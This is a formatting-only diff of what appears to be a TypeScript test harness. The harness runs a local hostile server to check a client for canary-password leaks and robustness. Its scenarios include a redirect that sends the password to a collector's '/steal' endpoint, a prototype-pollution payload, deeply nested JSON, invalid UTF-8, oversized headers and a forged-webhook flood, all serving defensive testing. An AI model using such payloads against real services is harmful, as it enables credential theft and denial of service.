@@ -68,7 +68,11 @@ function padded(text: string, bytes: number, key: string, cache: Map<string, str
     const parts: string[] = []
     let size = 0
     for (let i = 0; size < bytes; i += 1) {
-      const one = JSON.stringify({ ...model, id: `filler-${String(i).padStart(7, '0')}`, url: 'https://filler.invalid/x' })
+      const one = JSON.stringify({
+        ...model,
+        id: `filler-${String(i).padStart(7, '0')}`,
+        url: 'https://filler.invalid/x',
+      })
       parts.push(one)
       size += one.length + 1
     }
@@ -78,7 +82,10 @@ function padded(text: string, bytes: number, key: string, cache: Map<string, str
   return t === '[]' ? `[${filler}]` : `${t.slice(0, -1)},${filler}]`
 }
 
-/** The size of the one unknown header of every answer in the 'large-header' scenario: over Node's 16 KiB, under what curl and browsers read. */
+/**
+ * The size of the one unknown header of every answer in the 'large-header' scenario: over Node's 16 KiB, under what
+ * curl and browsers read.
+ */
 export const LARGE_HEADER_BYTES = 70 * 1024
 /** The size of the header of the webhook event lists in the 'header-overflow' scenario: past what any client reads. */
 export const OVERFLOW_HEADER_BYTES = 1024 * 1024
@@ -95,7 +102,10 @@ export function everyEncoding(secret: string): string {
   return [...leakForms(secret).map((f) => f.text), ...base64Contexts(secret).map((c) => c.text)].join(' ; ')
 }
 
-/** The password base64-encoded and MIME-wrapped (issue #37): lines of 76, 64 and 16 characters, CRLF and LF, at every alignment. */
+/**
+ * The password base64-encoded and MIME-wrapped (issue #37): lines of 76, 64 and 16 characters, CRLF and LF, at every
+ * alignment.
+ */
 export function mimeEncodings(secret: string): string {
   return mimeContexts(secret)
     .map((c) => c.text)
@@ -103,7 +113,9 @@ export function mimeEncodings(secret: string): string {
 }
 
 const SCHEMES = /\/schemes\//
-/** The products of the profile the bed's runs use (fixtures/targets/reference.json): the preflight fetches each schema. */
+/**
+ * The products of the profile the bed's runs use (fixtures/targets/reference.json): the preflight fetches each schema.
+ */
 const PREFLIGHT_PRODUCTS = ['home', 'travel']
 const LOGIN = /\/api\/v1\/identifier\/login\//
 
@@ -117,7 +129,9 @@ function readBody(req: IncomingMessage): Promise<Buffer> {
 }
 
 function listen(server: Server): Promise<string> {
-  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)))
+  return new Promise((resolve) =>
+    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
+  )
 }
 
 function close(server: Server): Promise<void> {
@@ -130,7 +144,12 @@ function close(server: Server): Promise<void> {
 /** A secret and the spellings a careless target echoes it in. */
 function spellings(secret: string): string[] {
   const parts = secret.split('.').filter((p) => p.length >= 16)
-  return [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64'), ...(parts.length === 3 ? parts : [])]
+  return [
+    secret,
+    encodeURIComponent(secret),
+    Buffer.from(secret).toString('base64'),
+    ...(parts.length === 3 ? parts : []),
+  ]
 }
 
 const TOKEN_FIELDS = /^(access_token|refresh_token|id_token|AccessToken|RefreshToken|IdToken)$/
@@ -139,7 +158,12 @@ const TOKEN_FIELDS = /^(access_token|refresh_token|id_token|AccessToken|RefreshT
 function collect(value: unknown, into: Set<string>, depth = 0): void {
   if (depth > 20 || value === null || typeof value !== 'object') return
   for (const [k, v] of Object.entries(value)) {
-    const secret = typeof v === 'string' && (TOKEN_FIELDS.test(k) || k === 'secret') ? v : k === 'secret' && v !== null && typeof v === 'object' ? (v as { key?: unknown }).key : undefined
+    const secret =
+      typeof v === 'string' && (TOKEN_FIELDS.test(k) || k === 'secret')
+        ? v
+        : k === 'secret' && v !== null && typeof v === 'object'
+          ? (v as { key?: unknown }).key
+          : undefined
     if (typeof secret === 'string' && secret.length >= 8) for (const s of spellings(secret)) into.add(s)
     else collect(v, into, depth + 1)
   }
@@ -158,7 +182,9 @@ export function hostileSchema(): object {
   }
 }
 
-/** A product schema with a cycle of references that consumes no value and a remote reference (nothing may be fetched). */
+/**
+ * A product schema with a cycle of references that consumes no value and a remote reference (nothing may be fetched).
+ */
 export function schemaWithHostileRefs(collectorUrl: string): object {
   return {
     $schema: 'http://json-schema.org/draft-07/schema#',
@@ -169,11 +195,16 @@ export function schemaWithHostileRefs(collectorUrl: string): object {
   }
 }
 
-export async function startHostileTarget(scenario: ScenarioName, o: { defects?: string[] } = {}): Promise<HostileTarget> {
+export async function startHostileTarget(
+  scenario: ScenarioName,
+  o: { defects?: string[] } = {},
+): Promise<HostileTarget> {
   const reference: RunningReference = await startReference({ port: 0, defects: o.defects ?? [] })
   const upstream = new URL(reference.url)
   const canaries = new Set<string>([...spellings(CANARY_PASSWORD), ...canariesOf(CANARY_PASSWORD)])
-  canaries.add(CANARY_PASSWORD.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'))
+  canaries.add(
+    CANARY_PASSWORD.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'),
+  )
   canaries.add(JSON.stringify(CANARY_PASSWORD).slice(1, -1))
   const state = { stolen: 0, subscriberUrls: [] as string[] }
   const timers = new Set<NodeJS.Timeout>()
@@ -202,7 +233,12 @@ export async function startHostileTarget(scenario: ScenarioName, o: { defects?: 
     const auth = req.headers.authorization
     if (LOGIN.test(url)) {
       // the Location quotes the password (raw and encoded), a C1 control and markup (issue #31, item 1)
-      if (scenario === 'login-redirect') return void res.writeHead(307, { location: `${collectorUrl}/steal?password=${CANARY_PASSWORD}&e=${encodeURIComponent(CANARY_PASSWORD)}&x=\u009b2J&m=${MARKUP}` }).end()
+      if (scenario === 'login-redirect')
+        return void res
+          .writeHead(307, {
+            location: `${collectorUrl}/steal?password=${CANARY_PASSWORD}&e=${encodeURIComponent(CANARY_PASSWORD)}&x=\u009b2J&m=${MARKUP}`,
+          })
+          .end()
       body = Buffer.from(body.toString('utf8').split(JSON.stringify(CANARY_PASSWORD).slice(1, -1)).join(DEMO_PASSWORD))
     }
     if (req.method === 'GET' && SCHEMES.test(url) && hostileAnswer(scenario, res, collectorUrl, timers)) return
@@ -233,7 +269,9 @@ export async function startHostileTarget(scenario: ScenarioName, o: { defects?: 
         const token = auth?.slice(7) ?? ''
         const [, payload, signature] = token.split('.')
         text = JSON.stringify({
-          message: `refused ${ANSI} for password ${CANARY_PASSWORD} (${encodeURIComponent(CANARY_PASSWORD)}, ${Buffer.from(CANARY_PASSWORD).toString('base64')})`,
+          message:
+            `refused ${ANSI} for password ${CANARY_PASSWORD} ` +
+            `(${encodeURIComponent(CANARY_PASSWORD)}, ${Buffer.from(CANARY_PASSWORD).toString('base64')})`,
           encodings: everyEncoding(CANARY_PASSWORD),
           mime: mimeEncodings(CANARY_PASSWORD),
           controls: `${C1_BIDI} ${MARKUP}`,
@@ -255,14 +293,20 @@ export async function startHostileTarget(scenario: ScenarioName, o: { defects?: 
         text = JSON.stringify({ ...parsed, note: `issued ${token.split('.').join(' ')}` })
         delete headers['content-length']
       }
-      if (scenario === 'large-lists' && req.method === 'GET' && /\/api\/webhook\/(subscriptions|events)(\?|$)/.test(url) && status === 200) {
+      if (
+        scenario === 'large-lists' &&
+        req.method === 'GET' &&
+        /\/api\/webhook\/(subscriptions|events)(\?|$)/.test(url) &&
+        status === 200
+      ) {
         text = padded(text, LARGE_LIST_BYTES, url.includes('events') ? 'events' : 'subscriptions', fillers)
         delete headers['content-length']
       }
       // one unknown header of 70 KB on every answer: standard clients read it
       if (scenario === 'large-header') headers['x-padding'] = 'p'.repeat(LARGE_HEADER_BYTES)
       // a header of 1 MB on the webhook event lists (after the preflight): past every client's limit, unreadable
-      if (scenario === 'header-overflow' && req.method === 'GET' && /\/api\/webhook\/events(\?|$)/.test(url)) headers['x-padding'] = 'p'.repeat(OVERFLOW_HEADER_BYTES)
+      if (scenario === 'header-overflow' && req.method === 'GET' && /\/api\/webhook\/events(\?|$)/.test(url))
+        headers['x-padding'] = 'p'.repeat(OVERFLOW_HEADER_BYTES)
       res.writeHead(status, headers).end(text)
     })
   })
@@ -271,12 +315,26 @@ export async function startHostileTarget(scenario: ScenarioName, o: { defects?: 
   proxy.keepAliveTimeout = 30_000
   const url = await listen(proxy)
 
-  function forward(req: IncomingMessage, body: Buffer, res: ServerResponse, done: (status: number, headers: Record<string, string | string[] | undefined>, out: Buffer) => void): void {
-    const up = request({ host: upstream.hostname, port: upstream.port, method: req.method, path: req.url, headers: { ...req.headers, host: upstream.host, 'content-length': String(body.length) } }, (r) => {
-      const chunks: Buffer[] = []
-      r.on('data', (c: Buffer) => chunks.push(c))
-      r.on('end', () => done(r.statusCode ?? 502, { ...r.headers }, Buffer.concat(chunks)))
-    })
+  function forward(
+    req: IncomingMessage,
+    body: Buffer,
+    res: ServerResponse,
+    done: (status: number, headers: Record<string, string | string[] | undefined>, out: Buffer) => void,
+  ): void {
+    const up = request(
+      {
+        host: upstream.hostname,
+        port: upstream.port,
+        method: req.method,
+        path: req.url,
+        headers: { ...req.headers, host: upstream.host, 'content-length': String(body.length) },
+      },
+      (r) => {
+        const chunks: Buffer[] = []
+        r.on('data', (c: Buffer) => chunks.push(c))
+        r.on('end', () => done(r.statusCode ?? 502, { ...r.headers }, Buffer.concat(chunks)))
+      },
+    )
     up.on('error', () => res.writeHead(502).end())
     up.end(body)
   }
@@ -298,7 +356,12 @@ export async function startHostileTarget(scenario: ScenarioName, o: { defects?: 
 }
 
 /** The scenario's answer to GET .../schemes/... ; false to let the reference answer. */
-function hostileAnswer(scenario: ScenarioName, res: ServerResponse, collectorUrl: string, timers: Set<NodeJS.Timeout>): boolean {
+function hostileAnswer(
+  scenario: ScenarioName,
+  res: ServerResponse,
+  collectorUrl: string,
+  timers: Set<NodeJS.Timeout>,
+): boolean {
   const json = { 'content-type': 'application/json' }
   const later = (f: () => void, ms: number) => {
     const t = setTimeout(() => {
@@ -353,10 +416,22 @@ function hostileAnswer(scenario: ScenarioName, res: ServerResponse, collectorUrl
       res.writeHead(200, json).end(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)
       return true
     case 'proto-keys':
-      res.writeHead(200, json).end('{"__proto__":{"polluted":"HOSTILE-PROTO"},"constructor":{"prototype":{"polluted":"HOSTILE-PROTO"}},"type":"object"}')
+      res
+        .writeHead(200, json)
+        .end(
+          '{"__proto__":{"polluted":"HOSTILE-PROTO"},"constructor":{"prototype":{"polluted":"HOSTILE-PROTO"}},"type":"object"}',
+        )
       return true
     case 'invalid-utf8':
-      res.writeHead(200, json).end(Buffer.concat([Buffer.from('{"type":"object","title":"'), Buffer.from([0xff, 0xfe, 0xc3, 0x28]), Buffer.from('"}')]))
+      res
+        .writeHead(200, json)
+        .end(
+          Buffer.concat([
+            Buffer.from('{"type":"object","title":"'),
+            Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
+            Buffer.from('"}'),
+          ]),
+        )
       return true
     case 'hostile-schema':
       res.writeHead(200, json).end(JSON.stringify(hostileSchema()))
@@ -375,7 +450,11 @@ function flood(url: string, timers: Set<NodeJS.Timeout>): void {
     timers.delete(t)
     const big = Buffer.alloc(5 * 1024 * 1024, 0x61)
     for (let i = 0; i < 300; i += 1) {
-      await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', 'x-webhook-signature': 'sha256=00' }, body: i % 50 === 0 ? big : JSON.stringify({ event: 'extracted', forged: i }) }).catch(() => undefined)
+      await fetch(url, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', 'x-webhook-signature': 'sha256=00' },
+        body: i % 50 === 0 ? big : JSON.stringify({ event: 'extracted', forged: i }),
+      }).catch(() => undefined)
     }
   }, 10)
   timers.add(t)
